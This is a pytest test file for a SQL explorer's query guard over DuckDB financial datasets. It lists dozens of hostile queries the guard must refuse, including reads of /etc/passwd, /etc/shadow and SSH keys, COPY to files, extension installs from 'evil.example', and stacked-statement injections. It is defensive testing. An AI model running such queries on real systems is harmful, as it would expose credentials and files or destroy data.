"""The explorer's gate refuses every hostile query with a clear message; the connection is a second wall."""

from __future__ import annotations

import pytest

from warehouse.explorer.engine import Limits, QueryFailed, locked_connection, run_page
from warehouse.explorer.guard import QueryRefused, check_query

ALLOWED = ("crsp_daily", "crsp_names", "ff_factors")

# (query, a word the refusal must contain)
HOSTILE: list[tuple[str, str]] = [
    # writes and DDL
    ("INSERT INTO crsp_daily VALUES (1)", "SELECT"),
    ("UPDATE crsp_daily SET ret = 0", "SELECT"),
    ("DELETE FROM crsp_daily", "SELECT"),
    ("DROP VIEW crsp_daily", "SELECT"),
    ("DROP TABLE _versions", "SELECT"),
    ("CREATE TABLE t AS SELECT * FROM crsp_daily", "SELECT"),
    ("CREATE OR REPLACE VIEW crsp_daily AS SELECT 1", "SELECT"),
    ("CREATE MACRO m(x) AS x", "SELECT"),
    ("ALTER VIEW crsp_daily RENAME TO x", "SELECT"),
    ("TRUNCATE crsp_daily", "SELECT"),
    ("MERGE INTO crsp_daily USING ff_factors ON 1=1 WHEN MATCHED THEN DELETE", "SELECT"),
    ("SELECT * INTO new_table FROM crsp_daily", "INTO"),
    # attach, copy, export, settings, extensions
    ("ATTACH '/tmp/evil.duckdb' AS evil", "SELECT"),
    ("ATTACH ':memory:' AS m", "SELECT"),
    ("DETACH crsp", "SELECT"),
    ("COPY crsp_daily TO '/tmp/out.csv'", "SELECT"),
    ("COPY (SELECT * FROM crsp_daily) TO '/tmp/out.parquet' (FORMAT parquet)", "SELECT"),
    ("COPY crsp_daily FROM '/etc/passwd'", "SELECT"),
    ("EXPORT DATABASE '/tmp/dump'", "SQL"),
    ("IMPORT DATABASE '/tmp/dump'", "SQL"),
    ("PRAGMA database_list", "SELECT"),
    ("PRAGMA enable_profiling", "SELECT"),
    ("SET enable_external_access = true", "SELECT"),
    ("SET memory_limit = '100GB'", "SELECT"),
    ("SET threads TO 64", "SELECT"),
    ("RESET threads", "SELECT"),
    ("INSTALL httpfs", "SELECT"),
    ("LOAD httpfs", "SELECT"),
    ("FORCE INSTALL httpfs FROM 'http://evil.example'", "SELECT"),
    ("CALL pragma_version()", "SELECT"),
    ("USE crsp", "SELECT"),
    ("BEGIN TRANSACTION", "SELECT"),
    ("CHECKPOINT", "SELECT"),
    ("VACUUM", "SELECT"),
    ("DESCRIBE crsp_daily", "SELECT"),
    ("SUMMARIZE crsp_daily", "SELECT"),
    # file and URL reads
    ("SELECT * FROM read_csv('/etc/passwd')", "read_csv"),
    ("select * from READ_CSV_AUTO('/etc/passwd')", "read_csv"),
    ("SeLeCt * FrOm ReAd_CsV('/etc/passwd')", "read_csv"),
    ("SELECT * FROM read_parquet('/work/**/*.parquet')", "read_parquet"),
    ("SELECT * FROM read_json('/etc/hosts')", "read_json"),
    ("SELECT * FROM read_text('/etc/shadow')", "read_text"),
    ("SELECT * FROM read_blob('/root/.ssh/id_rsa')", "read_blob"),
    ("SELECT * FROM parquet_scan('/tmp/x.parquet')", "parquet_scan"),
    ("SELECT * FROM parquet_metadata('/tmp/x.parquet')", "parquet_metadata"),
    ("SELECT * FROM glob('/*')", "glob"),
    ("SELECT * FROM '/etc/passwd'", "not available"),
    ("SELECT * FROM 'https://evil.example/x.parquet'", "not available"),
    ('SELECT * FROM "s3://bucket/x.parquet"', "not available"),
    ("SELECT * FROM sqlite_scan('/tmp/x.db', 't')", "sqlite_scan"),
    ("SELECT * FROM postgres_scan('host=x', 'public', 't')", "postgres_scan"),
    ("SELECT * FROM crsp_daily, read_csv('/etc/passwd')", "read_csv"),
    ("SELECT (SELECT count(*) FROM read_csv('/etc/passwd'))", "read_csv"),
    ("SELECT * FROM crsp_daily WHERE permno IN (SELECT column0 FROM read_csv('/etc/passwd'))", "read_csv"),
    # engine internals, settings and environment
    ("SELECT getenv('HOME')", "getenv"),
    ("SELECT current_setting('memory_limit')", "current_setting"),
    ("SELECT * FROM duckdb_settings()", "duckdb_settings"),
    ("SELECT * FROM duckdb_extensions()", "duckdb_extensions"),
    ("SELECT * FROM duckdb_tables()", "duckdb_tables"),
    ("SELECT * FROM pragma_database_list()", "pragma_database_list"),
    ("SELECT * FROM query('DROP VIEW crsp_daily')", "query"),
    ("SELECT * FROM query_table('crsp_daily')", "query_table"),
    ("SELECT * FROM information_schema.tables", "bare dataset name"),
    ("SELECT * FROM main.crsp_daily", "bare dataset name"),
    ("SELECT * FROM catalog.main.crsp_daily", "bare dataset name"),
    ("SELECT * FROM _versions", "not available"),
    ("SELECT * FROM sqlite_master", "not available"),
    # several statements, comment and case tricks
    ("SELECT 1; DROP VIEW crsp_daily", "one statement"),
    ("SELECT * FROM crsp_daily; SELECT * FROM ff_factors", "one statement"),
    ("SELECT 1 /* ; */; ATTACH '/tmp/x'", "one statement"),
    ("SELECT 1 -- harmless\n; COPY crsp_daily TO '/tmp/x.csv'", "one statement"),
    ("/* comment */ DELETE FROM crsp_daily", "SELECT"),
    ("sElEcT * fRoM ReAd_PaRqUeT('/tmp/x')", "read_parquet"),
    ("SELECT * FROM \"read_csv\"('/etc/passwd')", "read_csv"),
    # CTE-wrapped writes and shadowing
    ("WITH d AS (DELETE FROM crsp_daily RETURNING *) SELECT * FROM d", "SELECT"),
    ("WITH i AS (INSERT INTO crsp_daily VALUES (1) RETURNING *) SELECT * FROM i", "SELECT"),
    ("WITH u AS (UPDATE crsp_daily SET ret = 0 RETURNING *) SELECT * FROM u", "SELECT"),
    ("WITH ff_factors AS (SELECT 1) SELECT * FROM ff_factors", "CTE"),
    ("WITH x AS (SELECT * FROM read_csv('/etc/passwd')) SELECT * FROM x", "read_csv"),
    # licensed data outside the allow-list, empty and oversized input
    ("SELECT * FROM compustat_annual", "not available"),
    ("SELECT * FROM taq_daily", "not available"),
    ("", "SELECT"),
    ("   ", "SELECT"),
    ("SELECT " + "1," * 12_000 + "1", "longer"),
]


def test_the_list_has_at_least_fifty_hostile_queries():
    assert len(HOSTILE) >= 50 and len({q for q, _ in HOSTILE}) == len(HOSTILE)


@pytest.mark.parametrize(("sql", "word"), HOSTILE)
def test_hostile_query_is_refused_with_a_clear_message(sql: str, word: str):
    with pytest.raises(QueryRefused) as refused:
        check_query(sql, allowed=ALLOWED)
    message = str(refused.value)
    assert word.lower() in message.lower(), message
    assert "\n" not in message and len(message) < 300


@pytest.mark.parametrize(
    ("sql", "datasets"),
    [
        ("select permno, count(*) from crsp_daily group by 1", ("crsp_daily",)),
        ("WITH m AS (SELECT * FROM ff_factors WHERE frequency = 'monthly') SELECT count(*) FROM m", ("ff_factors",)),
        ("select d.permno, n.ticker from crsp_daily d join crsp_names n using (permno)", ("crsp_daily", "crsp_names")),
        ("SELECT 1 UNION ALL SELECT 2", ()),
        ("from ff_factors select date limit 3", ("ff_factors",)),
        ("select * from range(5)", ()),
        ("select 'read_csv(/etc/passwd)' as harmless_text", ()),
    ],
)
def test_read_only_selects_pass_and_name_what_they_read(sql: str, datasets: tuple[str, ...]):
    assert check_query(sql, allowed=ALLOWED).datasets == datasets


LIMITS = Limits(memory="256MB", threads=1, seconds=5.0)


def test_the_connection_refuses_file_reads_settings_and_attach_even_without_the_gate(catalog):
    with locked_connection(LIMITS) as con:
        assert con.sql("select count(*) from crsp_daily").fetchall() == [(catalog["crsp_daily"],)]
        for raw in ("select * from read_csv('/etc/passwd')", "attach '/tmp/evil.duckdb'", "set threads = 8",
                    "set enable_external_access = true", "create table t as select 1", "install httpfs"):  # fmt: skip
            with pytest.raises(Exception) as failed:
                con.sql(raw).fetchall()
            assert any(w in str(failed.value) for w in ("disabled", "locked", "read-only", "read only")), raw


def test_a_query_past_the_time_limit_is_interrupted(catalog):
    slow = "select count(*) from range(100000000000) a"
    with pytest.raises(QueryFailed, match="time limit of 0.3 s"):
        run_page(slow, page=1, size=10, max_rows=100, limits=Limits(memory="256MB", threads=1, seconds=0.3))


def test_pages_split_the_rows_and_stop_at_the_row_limit(catalog):
    sql = check_query("select permno, date, ret from crsp_daily order by permno, date", allowed=ALLOWED).sql
    first = run_page(sql, page=1, size=100, max_rows=250, limits=LIMITS)
    second = run_page(sql, page=2, size=100, max_rows=250, limits=LIMITS)
    third = run_page(sql, page=3, size=100, max_rows=250, limits=LIMITS)
    assert first.frame.height == 100 and first.has_next and first.first_row == 1
    assert third.frame.height == 50 and not third.has_next and third.first_row == 201  # rows 201-250, the cap
    everything = run_page(sql, page=1, size=1000, max_rows=1000, limits=LIMITS).frame
    assert second.frame.rows() == everything.slice(100, 100).rows() and catalog["crsp_daily"] == everything.height
    with pytest.raises(QueryFailed, match="Pages stop at row 250"):
        run_page(sql, page=4, size=100, max_rows=250, limits=LIMITS)
